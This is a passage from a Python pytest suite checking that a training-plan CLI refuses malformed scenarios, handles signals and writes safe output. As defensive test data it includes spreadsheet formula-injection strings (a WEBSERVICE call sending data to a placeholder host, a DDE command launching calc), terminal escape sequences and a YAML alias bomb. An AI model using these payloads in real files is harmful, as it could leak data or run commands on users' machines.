"""Adversarial input (SPEC, Robustness): whatever a file or a command line holds,
strideplan answers in bounded time with one of its exit codes (0, 1, 2, 3, 130), names
the file and key of bad input, and writes nothing it should not."""

from __future__ import annotations

import copy
import os
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from strideplan.check import check_plan
from strideplan.cli import cli
from strideplan.scenario import ScenarioError, validate

from conftest import QUIET, ROOT, scenario, solve

BASE = "name: x\nstart: 2027-01-04\nweeks: 2\n"


def invoke(*args):
    result = CliRunner().invoke(cli, [str(a) for a in args])
    assert "Traceback" not in result.output
    return result


def bad_input(tmp_path, text: str, *extra, name: str = "s.yaml"):
    """Solve a scenario text that must be refused: exit 2, nothing written."""
    path = tmp_path / name
    path.write_text(text)
    out = tmp_path / "plan.xlsx"
    result = invoke("solve", path, "-o", out, "--no-why", *extra)
    assert result.exit_code == 2, result.output
    assert str(path) in result.output
    assert not out.exists() and not list(tmp_path.glob(".*tmp"))
    return result.output


# ---------------------------------------------------------------------- scenario files
@pytest.mark.parametrize(
    "text, expected",
    [
        ("name: x\nstart: 2027-02-30\nweeks: 2\n", ["start", "line 2", "date"]),
        ("name: x\nstart: 9999-12-27\nweeks: 2\n", ["start", "2200"]),
        ("name: x\nstart: 1899-12-25\nweeks: 2\n", ["start", "1900"]),
        ("name: x\nstart: 1700000000\nweeks: 2\n", ["start", "date"]),
        (BASE + "weeks: 3\n", ["duplicate key 'weeks'", "line 4", "line 3"]),
        (BASE + "athlete: {name: a, name: b}\n", ["duplicate key 'name'"]),
        (BASE + "athlete: &a {away: [*a]}\n", ["alias", "recursion", "line 4"]),
        (BASE + "weeks_: " + "9" * 5000 + "\n", ["5000 digits", "line 4"]),
        ("name: x\nstart: 2027-01-04\nweeks: " + "9" * 5000 + "\n", ["5000 digits"]),
        (BASE + "variants: {a: " + "[" * 100_000 + "}\n", ["nesting deeper than 50"]),
        (BASE + "variants: {a: {b: " + "[" * 60 + "]" * 60 + "}}\n", ["nesting deeper than 50"]),
        ('name: "a\\e[31mb"\nstart: 2027-01-04\nweeks: 2\n', ["name", "control characters"]),
        (BASE + 'athlete: {name: "\\x07bell"}\n', ["athlete.name", "control characters"]),
        (BASE + 'races: [{date: 2027-01-10, name: "a\\rb"}]\n', ["races.0.name", "control"]),
        (BASE + 'variants: {"v\\e]0;x\\a": {weeks: 1}}\n', ["variants", "control characters"]),
        (BASE + "rules: {race_taper: {A: 1000000000}}\n", ["rules.race_taper.A", "728"]),
        (BASE + "rules: {strength_gap_days: 1000000000000000000}\n", ["strength_gap_days"]),
        (BASE + "rules: {rest_days_per_week: 1000000000}\n", ["rest_days_per_week", "14"]),
        (BASE + "rules: {dynamic_blocks: [1000000000000000000, 1000000000000000000]}\n", ["104"]),
        (BASE + "rules: {back_to_back_hard: 1000000000000000000}\n", ["1000000"]),
        (BASE + "rules: {max_days_without_strength: {days: 729}}\n", ["728"]),
        (BASE + "runs: {easy_runs: 15}\n", ["runs.easy_runs", "14"]),
        (BASE + "solver: {seed: 2147483648}\n", ["solver.seed"]),
        (BASE + "solver: {workers: 100000}\n", ["solver.workers", "64"]),
        (BASE + "solver: {time_limit: .nan}\n", ["solver.time_limit"]),
        (BASE + "solver: {time_limit: .inf}\n", ["solver.time_limit"]),
        (BASE + "solver: {time_limit: 3601}\n", ["solver.time_limit", "3600"]),
        (BASE + "sessions: {easy_run: {details: " + "x" * 3000 + "}}\n", ["details"]),
        (BASE + "sessions: {long_run: {minuts: 100}}\n", ["did you mean 'minutes'"]),
        (BASE + 'athlete: {name: "a\x01b"}\n', ["line 4 (key athlete)", "U+0001"]),
        (
            BASE + "athlete: {away: [{from: 2027-01-20, to: 2027-01-10}]}\n",
            ["'to' (2027-01-10) is before"],
        ),
    ],
)
def test_malformed_scenarios_are_bad_input_naming_the_key(tmp_path, text, expected):
    output = bad_input(tmp_path, text)
    for word in expected:
        assert word in output, output


@pytest.mark.parametrize(
    "key",
    ["sessions.long_run.minutes", "sessions.strength_core.minutes", "races.0.minutes"],
)
def test_minutes_range_is_0_to_1440(key):
    # SPEC Robustness: "minutes 0..1440" -- for sessions and races as for availability
    base = dict(races=[{"date": "2027-01-10"}])
    for minutes in (0, 1440):
        assert scenario(base={**QUIET, **base}, **{key.replace(".", "__"): minutes})
    with pytest.raises(ScenarioError, match=key.replace(".", r"\.")):
        scenario(base={**QUIET, **base}, **{key.replace(".", "__"): 1441})


@pytest.mark.parametrize(
    "key, value",
    [
        ("races.0.taper_days", 15),
        ("races.0.run_taper_days", 15),
        ("races.0.recovery_days", 15),
        ("rules.strength_gap_days", 15),
        ("rules.max_days_without_strength", 15),
        ("rules.max_training_days_in_a_row.days", 15),
        ("rules.power_gap_days", 15),
        ("rules.return_after_break.break", 15),
        ("rules.race_taper.A", 15),
        ("rules.race_eve.B", 15),
        ("rules.race_recovery.C", 15),
    ],
)
def test_day_counts_longer_than_the_plan_are_bad_input(key, value):
    # SPEC Robustness: "day counts 0..the plan's length" (2 weeks: 14 days), checked on
    # load with the key named; 14 itself is in range
    base = {**QUIET, "weeks": 2, "races": [{"date": "2027-01-10"}]}
    assert scenario(base=base, **{key.replace(".", "__"): 14})
    with pytest.raises(ScenarioError, match=key.replace(".", r"\.") + r".*longer than the plan"):
        scenario(base=base, **{key.replace(".", "__"): value})


def test_a_default_day_count_may_be_longer_than_a_short_plan():
    # max_days_without_strength is 10 by default: a 1-week plan is not bad input
    assert scenario(weeks=1, rules__max_days_without_strength={"weight": 5, "hard": False})
    assert scenario(base={k: v for k, v in QUIET.items() if k != "rules"}, weeks=1)


@pytest.mark.parametrize(
    "text",
    [
        '{"name": "x", "start": "2027-01-04", "weeks": ' + "9" * 5000 + "}",
        '{"name": "x", "start": "2027-01-04", "weeks": 1, "a": ' + "[" * 100_000 + "}",
        '{"name": "x", "start": "2027-02-30", "weeks": 1}',
        '{"name": "x", "start": "2027-01-04", "weeks": 1, "weeks": 2}',
    ],
)
def test_malformed_json_is_bad_input(tmp_path, text):
    bad_input(tmp_path, text, name="s.json")


def test_a_json_number_of_thousands_of_digits_names_its_key_briefly(tmp_path):
    text = '{"name": "x", "start": "2027-01-04", "weeks": ' + "9" * 5000 + "}"
    output = bad_input(tmp_path, text, name="s.json")
    assert "s.json: weeks:" in output and "(5000 characters)" in output
    assert len(output) < 400 and "set_int_max_str_digits" not in output


def test_ics_names_the_calendar_it_cannot_write(tmp_path):
    plan = tmp_path / "plan.xlsx"
    assert invoke("solve", ROOT / "scenarios" / "tight_week.yaml", "-o", plan).exit_code == 0
    result = invoke("ics", plan, "-o", tmp_path / "missing" / "x.ics")
    assert result.exit_code == 2 and "cannot write the calendar: folder" in result.output
    result = invoke("ics", plan, "-o", plan)
    assert result.exit_code == 2 and "cannot write the calendar over" in result.output


def test_deep_toml_is_bad_input(tmp_path):
    bad_input(tmp_path, BASE.replace(": ", " = ") + "a = " + "[" * 5000, name="s.toml")


def test_an_oversized_file_is_bad_input(tmp_path):
    assert "bytes" in bad_input(tmp_path, BASE + "#" * 1_100_000 + "\n")


@pytest.mark.parametrize(
    "sets, key",
    [
        (["start=2027-02-30"], "start"),
        (["start=9999-12-27"], "start"),
        (["athlete.name=a\x1b[2Jb"], "athlete.name"),
        (["rules.strength_gap_days=1000000000000000000"], "strength_gap_days"),
        (["rules.dynamic_blocks=[1000000000000000000, 1000000000000000000]"], "dynamic_blocks"),
        (["weeks=" + "9" * 5000], "weeks"),
    ],
)
def test_bad_overrides_are_bad_input(tmp_path, sets, key):
    args = [a for s in sets for a in ("--set", s)]
    assert key in bad_input(tmp_path, BASE, *args)


def test_alias_bombs_are_refused_quickly(tmp_path):
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]" for i in range(1, 9)]
    text = BASE + "variants:\n" + "".join(f"  {line}\n" for line in lines)
    assert "aliases" in bad_input(tmp_path, text)


def test_the_json_schema_shows_the_ranges():
    import json

    schema = json.loads(invoke("schema").output)
    text = json.dumps(schema)
    assert '"maximum": 1000000' in text  # weights
    assert '"maximum": 728' in text  # day counts
    assert '"maximum": 2147483647' in text  # seed
    assert "formatMinimum" in text  # dates


def test_merge_keys_may_still_override(tmp_path):
    path = tmp_path / "s.yaml"
    path.write_text(
        BASE + "athlete:\n  <<: &base {name: Sam, level: beginner}\n  name: Ana\n"
        "  availability: {mon: 60, wed: 60, sat: 90}\n"
    )
    from strideplan.scenario import load_scenario

    assert load_scenario(path).athlete.name == "Ana"


# ---------------------------------------------------------------------- rule interactions
def _power_weeks(result) -> list[int]:
    plan = result.plan
    return sorted(set(plan.loc[plan["session"] == "power", "week"]))


@pytest.mark.parametrize("power_per_week", ["off", {"hard": False, "weight": 1}])
def test_power_per_week_off_or_soft_keeps_the_static_weeks(quiet, power_per_week):
    quiet["weeks"] = 8
    quiet["rules"].update(
        strength_per_week=2, lower_strength_per_week=[0, 2], power_with_speed_or_strength=5
    )
    sc = scenario(quiet, rules__power_per_week=power_per_week, rules__dynamic_blocks=[2, 3])
    result = solve(sc)  # the checker accepts the plan
    static = [w + 1 for w, dynamic in enumerate(result.dynamic) if not dynamic]
    assert static, "blocks of 2-3 weeks in 8 weeks need static weeks"
    assert not set(static) & set(_power_weeks(result))


def test_the_athletes_session_limit_holds_with_the_rule_off(quiet):
    quiet["runs"] = {"easy_runs": 3}
    quiet["rules"].update(strength_per_week=3, strength_after_easy_run=5, strength_gap_days=0)
    for setting in ("off", {"hard": False, "weight": 1}):
        sc = scenario(quiet, rules__max_sessions_per_day=setting, athlete__max_sessions_per_day=1)
        result = solve(sc)
        sessions = result.plan[result.plan["session"] != "mobility"]
        assert sessions.groupby("date").size().max() == 1
        # and the checker judges the athlete's limit too: a second session on a day
        doubled = result.plan.copy()
        first = sessions.iloc[0]
        extra = first.copy()
        extra["session"], extra["category"] = "strength_core", "strength"
        doubled.loc[len(doubled)] = extra
        assert any(v.rule == "max_sessions_per_day" for v in check_plan(sc, doubled))


# ---------------------------------------------------------------------- solver status
def _heaviest(weeks: int = 104, **more):
    """The full-year scenario on 104 weeks with every weight at its maximum (and
    ``more`` overrides)."""
    from strideplan.scenario import MAX_WEIGHT, Rules, load_raw, with_overrides

    data, _ = load_raw(ROOT / "scenarios" / "full_year.yaml")
    data["weeks"] = weeks
    overrides = {f"rules.{key}.weight": MAX_WEIGHT for key in Rules.model_fields}
    return with_overrides(data, {**overrides, **more}, "full_year")


def test_the_largest_weights_on_104_weeks_give_a_valid_model():
    from strideplan.model import solve as raw_solve

    sc = _heaviest()
    assert sc.rules.back_to_back_hard.weight == 10**6
    raw = raw_solve(sc, time_limit=1.0, workers=2)  # a valid model: any status but a bug
    assert raw.status in ("optimal", "feasible", "unknown")


def test_an_invalid_model_is_a_bug_not_a_time_out(monkeypatch, tmp_path):
    import strideplan.model as model

    def overflowing_objective(b):
        return sum(10**18 * v for v in list(b.placed["power"].values())[:20])

    monkeypatch.setattr(model, "objective", overflowing_objective)
    out = tmp_path / "plan.xlsx"
    result = invoke("solve", ROOT / "scenarios" / "tight_week.yaml", "-o", out, "--no-why")
    assert result.exit_code == 3, result.output
    assert "invalid model" in result.output and "time limit" not in result.output
    assert len(result.output.strip().splitlines()) == 1
    assert not out.exists()


@pytest.mark.parametrize(
    "flags, words",
    [
        (["--seed", "2147483648"], ["--seed"]),
        (["--seed", "-1"], ["--seed"]),
        (["--time-limit", "nan"], ["--time-limit", "finite"]),
        (["--time-limit", "inf"], ["--time-limit"]),
        (["--time-limit", "3601"], ["--time-limit"]),
        (["--time-limit", "0"], ["--time-limit"]),
    ],
)
def test_out_of_range_flags_are_bad_input(tmp_path, flags, words):
    out = tmp_path / "plan.xlsx"
    result = invoke("solve", ROOT / "scenarios" / "tight_week.yaml", "-o", out, *flags)
    assert result.exit_code == 2, result.output
    for word in words:
        assert word in result.output
    assert not out.exists()


# ---------------------------------------------------------------------- self-check
def test_a_plan_that_breaks_a_hard_rule_is_never_written(monkeypatch, tmp_path):
    """The solver-free checker runs on every plan before a write; a plan the model
    accepts and the checker does not is a bug: exit 3, nothing written."""
    from strideplan.rules.daily import MaxSessionsPerDay

    monkeypatch.setattr(MaxSessionsPerDay, "encode", lambda self, b: None)  # a broken model
    scenario_path = tmp_path / "s.yaml"
    scenario_path.write_text(
        BASE + "athlete: {availability: {mon: 200, tue: 200}, max_sessions_per_day: 1}\n"
        "runs: {easy_runs: 2}\nrules: {strength_per_week: 2, power_per_week: 0, "
        "dynamic_blocks: off, strength_gap_days: 0, strength_after_easy_run: 9, "
        "max_days_without_strength: off, rest_days_per_week: 0}\n"
    )
    for command in (
        ["solve", "--no-why"],
        ["compare", "--variant", "v: rules.back_to_back_hard=1"],
    ):
        out = tmp_path / "plan.xlsx"
        result = invoke(command[0], scenario_path, "-o", out, *command[1:])
        assert result.exit_code == 3, result.output
        assert "max_sessions_per_day" in result.output
        assert not out.exists()


# ---------------------------------------------------------------------- signals, pipes
#: the console script as pip installs it (entry.console: main, then a fast exit)
STRIDEPLAN = [sys.executable, "-c", "from strideplan.entry import console; console()"]


def _slow_scenario(tmp_path) -> Path:
    """A scenario CP-SAT cannot prove optimal in seconds: 104 weeks, maximal weights,
    and none of the redundant cuts that prove the year in a second (issue 22): dynamic
    blocks soft, room for three sessions a day (30 s: still not proven)."""
    path = tmp_path / "slow.yaml"
    more = {"rules.dynamic_blocks.hard": False, "rules.max_sessions_per_day.max": 3}
    data = _heaviest(**more).model_dump(mode="json", by_alias=True, exclude_none=True)
    path.write_text(yaml.safe_dump(data))
    return path


@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM])
def test_a_signal_during_the_solve_stops_it_writes_nothing_and_exits_130(tmp_path, signum):
    scenario_path = _slow_scenario(tmp_path)
    out = tmp_path / "plan.xlsx"
    out.write_bytes(b"the previous workbook")
    proc = subprocess.Popen(
        [*STRIDEPLAN, "solve", scenario_path, "-o", out, "--time-limit", "600"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    time.sleep(4)  # imports, the build, into the search (earlier is handled too)
    proc.send_signal(signum)
    _, err = proc.communicate(timeout=120)  # a guard, not a timing assertion
    assert proc.returncode == 130, err
    assert b"interrupted; nothing written" in err and b"Traceback" not in err
    assert out.read_bytes() == b"the previous workbook"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.xlsx", "slow.yaml"]


def test_a_signal_at_startup_exits_130_without_traceback(tmp_path):
    proc = subprocess.Popen(
        [*STRIDEPLAN, "solve", ROOT / "scenarios" / "tight_week.yaml", "-o", tmp_path / "p.xlsx"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    time.sleep(0.4)  # while the command line is still importing (about a second)
    proc.send_signal(signal.SIGINT)
    _, err = proc.communicate(timeout=120)
    assert proc.returncode in (130, 0), err  # 0 only if it finished before the signal
    assert b"Traceback" not in err
    assert proc.returncode == 0 or not (tmp_path / "p.xlsx").exists()


def test_a_signal_during_the_write_leaves_no_temporary_file(tmp_path, monkeypatch):
    from xlsxwriter import Workbook

    from strideplan.excel import write_workbook
    from strideplan.interrupt import Interrupted, stop_on_signals
    from strideplan.result import plan_scenario

    result = plan_scenario(scenario(QUIET))
    real_close = Workbook.close

    def close_then_signal(self):
        real_close(self)  # the temporary file is on disk now
        os.kill(os.getpid(), signal.SIGTERM)

    monkeypatch.setattr(Workbook, "close", close_then_signal)
    target = tmp_path / "plan.xlsx"
    with pytest.raises(Interrupted), stop_on_signals():
        write_workbook(result, target)
    assert list(tmp_path.iterdir()) == []


def test_work_meanwhile_runs_on_the_main_thread_during_the_next_solve_only():
    """The solve command loads the writer while CP-SAT searches (interrupt.meanwhile):
    on the main thread (signals and imports stay there), once, and its error is the
    solve's error (the search is stopped, not left running)."""
    from strideplan.interrupt import meanwhile
    from strideplan.result import plan_scenario

    seen = []
    meanwhile(lambda: seen.append(threading.current_thread() is threading.main_thread()))
    assert plan_scenario(scenario(QUIET)).solved and seen == [True]
    assert plan_scenario(scenario(QUIET)).solved and seen == [True]

    def broken():
        raise ImportError("a module that cannot load")

    meanwhile(broken)
    with pytest.raises(ImportError, match="cannot load"):
        plan_scenario(scenario(QUIET))
    assert not [t for t in threading.enumerate() if t.name == "cp-sat"]  # none left running


def test_a_closed_stdout_does_not_change_the_exit_code(tmp_path):
    for args, expected in (
        (["solve", ROOT / "scenarios" / "tight_week.yaml", "-o", tmp_path / "p.xlsx"], 0),
        (["check", ROOT / "scenarios" / "tight_week.yaml", tmp_path / "p.xlsx"], 0),
        (["solve", tmp_path / "missing.yaml"], 2),
    ):
        proc = subprocess.Popen(
            [*STRIDEPLAN, *[str(a) for a in args], "--no-why"][
                : None if args[0] == "solve" else -1
            ],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        )
        proc.stdout.close()  # like `| head -0`: every write to stdout fails
        _, err = proc.communicate(timeout=120)
        assert proc.returncode == expected, err
        assert b"Traceback" not in err and b"Exception ignored" not in err
    assert (tmp_path / "p.xlsx").exists()


# ---------------------------------------------------------------------- output
INJECTION = """\
name: '=WEBSERVICE("http://example.invalid/?leak")'
start: 2027-01-04
weeks: 2
athlete: {name: "+cmd|' /C calc'!A0", availability: {mon: 90, wed: 90, sat: 90, sun: 120}}
races: [{date: 2027-01-17, name: "@SUM(1+1)"}]
sessions: {easy_run: {details: "=1+1"}}
runs: {easy_runs: 2}
variants: {"=HYPERLINK(1)": {runs.easy_runs: 1}, "-2+3": {runs.easy_runs: 0}}
"""


def _formula_cells(path: Path) -> list[str]:
    from openpyxl import load_workbook

    wb = load_workbook(path)
    return [
        f"{ws.title}!{cell.coordinate}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_scenario_text_is_never_written_as_a_formula(tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "s.yaml"
    path.write_text(INJECTION)
    plan, comparison = tmp_path / "plan.xlsx", tmp_path / "compare.xlsx"
    assert invoke("solve", path, "-o", plan, "--no-why").exit_code == 0
    assert invoke("compare", path, "-o", comparison).exit_code == 0
    assert _formula_cells(plan) == [] and _formula_cells(comparison) == []
    wb = load_workbook(plan)
    assert wb["Calendar"]["A1"].value.startswith('=WEBSERVICE("http')  # kept, as text
    assert any(str(c.value).startswith("=1+1") for c in wb["Sessions"]["I"])  # as text
    names = [c.value for c in load_workbook(comparison)["Comparison"][1]]
    assert "=HYPERLINK(1)" in names and "-2+3" in names


def test_terminal_output_never_passes_escape_sequences(tmp_path):
    path = tmp_path / "a\x1b]0;owned\x07\x1b[2J.yaml"
    path.write_text(BASE + "athlete: {availability: {mon: 60, wed: 60, sat: 60}}\n")
    for args in (
        ["solve", path, "-o", tmp_path / "p.xlsx", "--no-why"],
        ["solve", tmp_path / "\x1b[31mmissing.yaml"],
        ["compare", path, "--variant", "v\x1b[5m: runs.easy_runs=0", "-o", tmp_path / "c.xlsx"],
    ):
        result = invoke(*args)
        assert "\x1b" not in result.output and "\x07" not in result.output, result.output
        assert result.exit_code in (0, 2), result.output


def test_a_calendar_beside_the_workbook_is_another_file(tmp_path):
    """``-o plan.ics --ics`` would write the workbook and the calendar to one file: bad
    input before solving, nothing written."""
    src = ROOT / "scenarios" / "tight_week.yaml"
    result = invoke("solve", src, "-o", tmp_path / "plan.ics", "--ics")
    assert result.exit_code == 2 and "would be one file" in result.output, result.output
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("kind", ["directory", "fifo", "device", "missing folder", "dangling"])
def test_output_must_be_a_regular_file_or_a_new_path(tmp_path, kind):
    if kind == "directory":
        target = tmp_path / "dir.xlsx"
        target.mkdir()
    elif kind == "fifo":
        target = tmp_path / "pipe.xlsx"
        os.mkfifo(target)
    elif kind == "device":
        target = Path(os.devnull)
    elif kind == "missing folder":
        target = tmp_path / "nowhere" / "plan.xlsx"
    else:
        target = tmp_path / "link.xlsx"
        target.symlink_to(tmp_path / "nothing" / "there")
    for command in (["solve", "--no-why"], ["compare", "--variant", "v: runs.easy_runs=0"]):
        result = invoke(
            command[0], ROOT / "scenarios" / "tight_week.yaml", "-o", target, *command[1:]
        )
        assert result.exit_code == 2, result.output
        assert str(target) in result.output
    if kind == "device":
        assert Path(os.devnull).is_char_device()
    assert [p for p in tmp_path.rglob("*") if p.is_file()] == []


@pytest.mark.parametrize("umask", [0o022, 0o077, 0o002])
def test_workbooks_get_the_mode_the_umask_gives(tmp_path, umask):
    out = tmp_path / "plan.xlsx"
    previous = os.umask(umask)
    try:
        result = invoke("solve", ROOT / "scenarios" / "tight_week.yaml", "-o", out, "--no-why")
    finally:
        os.umask(previous)
    assert result.exit_code == 0, result.output
    assert out.stat().st_mode & 0o777 == 0o666 & ~umask


# ---------------------------------------------------------------------- check: hostile workbooks
TIGHT = ROOT / "scenarios" / "tight_week.yaml"


@pytest.fixture(scope="module")
def plan_file(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("plan") / "plan.xlsx"
    assert invoke("solve", TIGHT, "-o", out, "--no-why").exit_code == 0
    return out


def _edited(plan_file: Path, tmp_path: Path, edit) -> Path:
    from openpyxl import load_workbook

    wb = load_workbook(plan_file)
    edit(wb["Sessions"])
    path = tmp_path / "edited.xlsx"
    wb.save(path)
    return path


def _check(path: Path):
    return invoke("check", TIGHT, path)


@pytest.mark.parametrize("column", ["order", "minutes"])
@pytest.mark.parametrize("how", ["dropped", "blank"])
def test_a_plan_without_order_or_minutes_is_read_by_every_command(plan_file, tmp_path, column, how):
    """A coach may drop or empty the order and minutes columns (filled from the scenario,
    or the catalog for the calendar): check, ics, workouts and replan all read it."""

    def edit(ws):
        index = [c.value for c in ws[1]].index(column) + 1
        if how == "dropped":
            ws.delete_cols(index)
        else:
            ws.cell(row=3, column=index).value = None

    path = _edited(plan_file, tmp_path, edit)
    assert _check(path).exit_code == 0
    assert invoke("ics", path, "-o", tmp_path / "plan.ics").exit_code == 0
    assert invoke("workouts", path, "-o", tmp_path / "watch").exit_code == 0
    new = tmp_path / "new.xlsx"
    replanned = invoke("replan", TIGHT, path, "--today", "2027-01-18", "-o", new)
    assert replanned.exit_code == 0, replanned.output


def test_check_validates_every_contract_column(plan_file, tmp_path):
    def falsify(ws):
        ws["B2"] = 7  # week
        ws["C3"] = "sun"  # day
        ws["F4"] = "power"  # category
        ws["H5"] = not ws["H5"].value  # hard

    result = _check(_edited(plan_file, tmp_path, falsify))
    assert result.exit_code == 1, result.output
    assert result.output.count("sessions_columns") >= 4
    for column in ("column week", "column day", "column category", "column hard"):
        assert column in result.output


@pytest.mark.parametrize(
    "cell, value, words",
    [
        ("G2", "=30+30", ["Sessions!G2", "formula"]),
        ("A3", "=TODAY()", ["Sessions!A3", "formula"]),
        ("G2", 30.5, ["Sessions!G2", "not a whole number"]),
        ("G2", "1e400", ["Sessions!G2", "not a whole number"]),
        ("G2", 10**12, ["Sessions!G2", "outside"]),
        ("D2", -1, ["Sessions!D2", "outside"]),
        ("G2", None, []),  # an empty minutes cell: the scenario's minutes (exit 0)
    ],
)
def test_check_reports_unreadable_cells_as_bad_input(plan_file, tmp_path, cell, value, words):
    def edit(ws):
        ws[cell] = value

    result = _check(_edited(plan_file, tmp_path, edit))
    assert result.exit_code == (2 if words else 0), result.output
    for word in words:
        assert word in result.output
    assert "\x1b" not in result.output


#: the Sessions sheet's part: the third sheet (Calendar, Booklet, Sessions, ...)
SESSIONS_XML = "xl/worksheets/sheet3.xml"


def _xml_edited(plan_file: Path, tmp_path: Path, cell: str, xml: str) -> Path:
    """The plan with one cell of the Sessions sheet's XML replaced by hand."""
    import re
    import zipfile

    path = tmp_path / "hand.xlsx"
    with zipfile.ZipFile(plan_file) as src, zipfile.ZipFile(path, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == SESSIONS_XML:
                data, n = re.subn(rf'<c r="{cell}"[^>]*>.*?</c>'.encode(), xml.encode(), data)
                assert n == 1
            dst.writestr(info, data)
    return path


@pytest.mark.parametrize(
    "xml",
    [
        '<c r="G2" t="n"><v>1e400</v></c>',  # a number that overflows to inf
        '<c r="G2" t="n"><v>-1e400</v></c>',
        '<c r="G2" t="inlineStr"><is><t>inf</t></is></c>',  # typed as text
        '<c r="G2" t="inlineStr"><is><t>nan</t></is></c>',
        '<c r="G2" t="inlineStr"><is><t>30.5</t></is></c>',
    ],
)
def test_check_reports_non_finite_minutes_naming_the_cell(plan_file, tmp_path, xml):
    path = _xml_edited(plan_file, tmp_path, "G2", xml)
    result = _check(path)
    assert result.exit_code == 2, result.output
    assert "Sessions!G2" in result.output and "not a whole number" in result.output


def test_check_never_echoes_control_characters_from_a_cell(plan_file, tmp_path):
    xml = '<c r="E2" t="inlineStr"><is><t>power\u0085\u009b2J</t></is></c>'
    result = _check(_xml_edited(plan_file, tmp_path, "E2", xml))
    assert result.exit_code == 2, result.output
    assert "Sessions!E2" in result.output
    assert "\x85" not in result.output and "\x9b" not in result.output


def test_check_refuses_a_workbook_with_too_many_rows(tmp_path):
    from openpyxl import Workbook

    wb = Workbook(write_only=True)
    ws = wb.create_sheet("Sessions")
    ws.append(["date", "session"])
    for _ in range(20_001):
        ws.append(["2027-01-04", "power"])
    path = tmp_path / "long.xlsx"
    wb.save(path)
    result = _check(path)
    assert result.exit_code == 2 and "more than 20000 rows" in result.output, result.output


def test_check_refuses_corrupt_and_foreign_workbooks(plan_file, tmp_path, monkeypatch):
    import zipfile

    import strideplan.excel as excel

    text = tmp_path / "text.xlsx"
    text.write_text("date,session\n2027-01-04,power\n")
    foreign = tmp_path / "foreign.xlsx"
    with zipfile.ZipFile(foreign, "w") as archive:
        archive.writestr("hello.txt", "not a workbook")
    broken = tmp_path / "broken.xlsx"
    with zipfile.ZipFile(plan_file) as src, zipfile.ZipFile(broken, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == SESSIONS_XML:
                data = data[: len(data) // 2] + b"<row><c r=<<<"
            dst.writestr(info, data)
    for path in (text, foreign, broken, tmp_path):
        result = _check(path)
        assert result.exit_code == 2, (path, result.output)
        assert str(path) in result.output
    monkeypatch.setattr(excel, "MAX_UNPACKED_BYTES", 1000)  # a zip that inflates too far
    result = _check(plan_file)
    assert result.exit_code == 2 and "unpacks to" in result.output


def test_an_import_broken_by_the_signal_is_still_the_interruption():
    """CPython turns the handler's Interrupted, raised inside a C extension's import
    (numpy's, at startup), into ImportError("initialization failed"): exit 130, not 3."""
    from strideplan import interrupt

    with pytest.raises(interrupt.Interrupted):
        with interrupt.stop_on_signals():
            interrupt._stopped.append(signal.SIGINT)  # what the handler records
            raise ImportError("initialization failed")
    with pytest.raises(ImportError):  # without a signal, an error stays the error
        with interrupt.stop_on_signals():
            raise ImportError("initialization failed")


def test_output_over_the_scenario_is_refused(tmp_path):
    """Issue 20: `solve mine.yaml -o mine.yaml` (or a symlink to it) must not replace
    the user's scenario: exit 2, the file untouched."""
    import shutil

    from click.testing import CliRunner

    from strideplan.cli import cli

    mine = tmp_path / "mine.yaml"
    shutil.copy("scenarios/10k_build.yaml", mine)
    before = mine.read_bytes()
    link = tmp_path / "link.xlsx"
    link.symlink_to(mine)
    for out in (str(mine), str(tmp_path / "." / "mine.yaml"), str(link)):
        result = CliRunner().invoke(cli, ["solve", str(mine), "-o", out])
        assert result.exit_code == 2, result.output
        assert "input" in result.output
        assert mine.read_bytes() == before


def test_ics_output_over_the_plan_is_refused(tmp_path):
    """Issue 20: `ics plan.xlsx -o plan.xlsx` must not replace the plan it reads."""
    from click.testing import CliRunner

    from strideplan.cli import cli

    plan = tmp_path / "plan.xlsx"
    runner = CliRunner()
    assert runner.invoke(cli, ["solve", "scenarios/10k_build.yaml", "-o", str(plan)]).exit_code == 0
    before = plan.read_bytes()
    result = runner.invoke(cli, ["ics", str(plan), "-o", str(plan)])
    assert result.exit_code == 2, result.output
    assert plan.read_bytes() == before


# ------------------------------------------------------- hardening round 3 (issue 20)
@pytest.mark.parametrize(
    "text, expected",
    [
        (BASE + "athlete: {availability: {mon: 045}}\n", ["athlete.availability.mon", "045", "45"]),
        (BASE + "athlete: {availability: {mon: 1:30}}\n", ["athlete.availability.mon", "1:30"]),
        (BASE + "athlete: {availability: {mon: 1_0}}\n", ["athlete.availability.mon", "separator"]),
        (BASE.replace("weeks: 2", "weeks: 0b10"), ["weeks", "binary number (2)"]),
        (BASE.replace("weeks: 2", "weeks: 0x2"), ["weeks", "hexadecimal number (2)"]),
        (BASE.replace("weeks: 2", "weeks: 0o2"), ["weeks", "octal number (2)"]),
        (BASE + "races: [{date: 2027-01-10, distance: 07.5}]\n", ["races.0.distance", "7.5"]),
        (BASE + "races: [{date: 2027-01-10, minutes: 0x3c}]\n", ["races.0.minutes", "(60)"]),
        (BASE + "races: [{date: 2027-01-10, distance: yes}]\n", ["races.0.distance", "'yes'"]),
        (BASE + "races: [{date: 2027-01-10, distance: true}]\n", ["races.0.distance"]),
        (BASE + "athlete: {gym: [mon, yes]}\n", ["athlete.gym.1", "'yes'"]),
        (BASE + "solver: {time_limit: on}\n", ["solver.time_limit", "'on'"]),
        (BASE + "runs: {easy_runs: no}\n", ["runs.easy_runs", "'no'"]),
        (BASE + "rules: {strength_after_easy_run: no}\n", ["strength_after_easy_run", "off"]),
    ],
)
def test_yaml_1_1_numbers_and_words_are_bad_input_naming_the_key(tmp_path, text, expected):
    """Issue 20: 045 is not octal 37, `yes` is not the number 1: refused at the key."""
    output = bad_input(tmp_path, text)
    for word in expected:
        assert word in output, output


def test_plain_decimals_still_read_as_numbers(tmp_path):
    path = tmp_path / "s.yaml"
    path.write_text(
